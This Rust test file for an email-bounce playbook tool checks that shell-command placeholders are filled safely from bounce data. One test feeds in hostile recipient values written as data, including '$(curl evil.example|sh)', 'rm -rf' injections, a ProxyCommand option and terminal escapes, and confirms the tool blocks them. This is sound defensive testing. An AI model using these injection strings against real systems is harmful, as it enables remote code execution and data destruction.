//! `{placeholders}` filled from a bounce: the right values, visible markers for missing ones,
//! and nothing from an untrusted bounce that could change what a pasted command does.

use bouncebook::bounce::{Bounce, Record, Stage};
use bouncebook::playbook::{self, fill_placeholders, missing_placeholders};
use proptest::prelude::*;

fn bounce() -> (Bounce, Record) {
    let record = Record {
        recipient: Some("rfc822; Jo.Smith+news@customer-example.com".into()),
        reply_code: Some(553),
        status: Some("5.7.1".into()),
        diagnostic: Some(
            "553 5.7.1 sorry, that domain isn't in my list of allowed rcpthosts".into(),
        ),
        stage: Some(Stage::RcptTo),
        remote_host: Some("mx1.customer-example.com".into()),
        remote_ip: Some("[192.0.2.25]".into()),
        ..Record::default()
    };
    let bounce = Bounce {
        sender: Some("<office@shop-example.net>".into()),
        header_from: Some("\"Shop\" <sales@shop-example.net>".into()),
        message_id: Some("<20261129.abc123@shop-example.net>".into()),
        queue_id: Some("1vQxYz-0004Ab-Cd".into()),
        reporting_mta: Some("dns; host42.hosting-example.org".into()),
        records: vec![record.clone()],
        ..Bounce::default()
    };
    (bounce, record)
}

#[test]
fn every_placeholder_is_filled_from_the_bounce() {
    let (bounce, record) = bounce();
    let template = "{sender} {sender_domain} {header_from} {recipient} {recipient_domain} {remote_host} \
                    {remote_ip} {reporting_mta} {queue_id} {message_id} {reply_code} {status}";
    assert_eq!(
        fill_placeholders(template, &bounce, &record),
        "office@shop-example.net shop-example.net sales@shop-example.net Jo.Smith+news@customer-example.com \
         customer-example.com mx1.customer-example.com 192.0.2.25 host42.hosting-example.org \
         1vQxYz-0004Ab-Cd 20261129.abc123@shop-example.net 553 5.7.1"
    );
    assert!(missing_placeholders(template, &bounce, &record).is_empty());
    // The template above names every placeholder there is, but the two the bounce cannot
    // always give: the sending IP (a fact) and the submission host (only ever typed).
    assert_eq!(
        template.matches('{').count() + 2,
        playbook::PLACEHOLDERS.len()
    );
    let mut with_ip = bounce.clone();
    with_ip.facts.sending_ip = "198.51.100.7".parse().ok();
    assert_eq!(
        fill_placeholders("{sending_ip} {submission_host}", &with_ip, &record),
        "198.51.100.7 SUBMISSION_HOST"
    );
}

#[test]
fn an_embedded_command_is_filled_for_the_agent() {
    let (bounce, record) = bounce();
    let set = playbook::embedded();
    let step = set
        .get("relay-denied")
        .and_then(|p| p.steps.iter().find(|s| s.id == "check-recipient-mx"))
        .and_then(|s| s.command.as_deref())
        .expect("relay-denied has an MX check");
    assert_eq!(
        fill_placeholders(step, &bounce, &record),
        "dig +short MX customer-example.com"
    );
}

#[test]
fn missing_values_become_visible_shell_inert_markers() {
    let bounce = Bounce::default();
    let record = Record::default();
    let template = "dig +short MX {recipient_domain} && grep -F {recipient} /var/log/exim_mainlog";
    let filled = fill_placeholders(template, &bounce, &record);
    assert_eq!(
        filled,
        "dig +short MX RECIPIENT_DOMAIN && grep -F RECIPIENT /var/log/exim_mainlog"
    );
    assert!(!filled.contains(['{', '}', '<', '>']));
    assert_eq!(
        missing_placeholders(template, &bounce, &record),
        ["recipient_domain", "recipient"]
    );
    // A sender with no domain has no {sender_domain}.
    let bounce = Bounce {
        sender: Some("root".into()),
        ..Bounce::default()
    };
    assert_eq!(
        fill_placeholders("{sender} {sender_domain}", &bounce, &record),
        "root SENDER_DOMAIN"
    );
}

#[test]
fn hostile_values_never_reach_the_command() {
    let (bounce, _) = bounce();
    for hostile in [
        "x;rm -rf ~@evil.example",
        "`reboot`@evil.example",
        "$(curl evil.example|sh)@evil.example",
        "a@evil.example\nrm -rf /",
        "a@evil.example\r\u{1b}]52;c;ZXZpbA==\u{7}",
        "-oProxyCommand=sh@evil.example",
        "a@evil.example > /etc/passwd",
        "a&&b@evil.example",
        "a@evil.example\u{202e}moc",
    ] {
        let record = Record {
            recipient: Some(hostile.into()),
            ..Record::default()
        };
        let filled = fill_placeholders(
            "grep -F {recipient} log; dig MX {recipient_domain}",
            &bounce,
            &record,
        );
        assert!(
            filled.starts_with("grep -F RECIPIENT log; dig MX "),
            "{hostile:?} -> {filled:?}"
        );
        // The domain is used only when it is inert on its own (`evil.example` is).
        let domain = &filled["grep -F RECIPIENT log; dig MX ".len()..];
        assert!(
            domain == "RECIPIENT_DOMAIN" || domain == "evil.example",
            "{hostile:?} -> {filled:?}"
        );
    }
}

#[test]
fn every_kind_of_value_is_checked_not_only_addresses() {
    let record = Record {
        remote_host: Some("mx.example.com;reboot".into()),
        status: Some("5.7.1`id`".into()),
        ..Record::default()
    };
    let bounce = Bounce {
        queue_id: Some("$(id)".into()),
        message_id: Some("<a|b@x>".into()),
        ..Bounce::default()
    };
    assert_eq!(
        fill_placeholders(
            "{remote_host} {status} {queue_id} {message_id}",
            &bounce,
            &record
        ),
        "REMOTE_HOST STATUS QUEUE_ID MESSAGE_ID"
    );
}

#[test]
fn doubled_braces_are_literal_and_unknown_names_stay_as_written() {
    let (bounce, record) = bounce();
    assert_eq!(
        fill_placeholders("awk '{{print $3}}' {queue_id} {nope}", &bounce, &record),
        "awk '{print $3}' 1vQxYz-0004Ab-Cd {nope}"
    );
}

proptest! {
    /// Whatever the bounce holds, a filled value is either the exact value, made only of
    /// shell-inert characters, or the capitalised marker.
    #[test]
    fn filled_values_are_exact_and_inert_or_the_marker(recipient in "\\PC{0,40}|[a-z0-9.;|&$`'\"<>() \n-]{1,20}@[a-z.-]{1,20}") {
        let record = Record { recipient: Some(recipient.clone()), ..Record::default() };
        let filled = fill_placeholders("[{recipient}]", &Bounce::default(), &record);
        let inner = &filled[1..filled.len() - 1];
        let inert = |c: char| c.is_alphanumeric() || ".@_+-=%:".contains(c);
        // The value may lose its wrapping (`<...>`, `rfc822;`), never a character inside it.
        prop_assert!(inner == "RECIPIENT" || (recipient.contains(inner) && inner.chars().all(inert) && !inner.starts_with('-')),
            "{recipient:?} -> {filled:?}");
    }
}

#[test]
fn a_parsed_bounce_fills_what_the_parser_found() {
    let bounce = bouncebook::bounce::parse(
        b"553 5.7.1 sorry, that domain isn't in my list of allowed rcpthosts\n",
    )
    .expect("a reply line parses");
    let record = bounce.records.first().expect("one record");
    assert_eq!(
        fill_placeholders("code {reply_code}", &bounce, record),
        "code 553"
    );
}
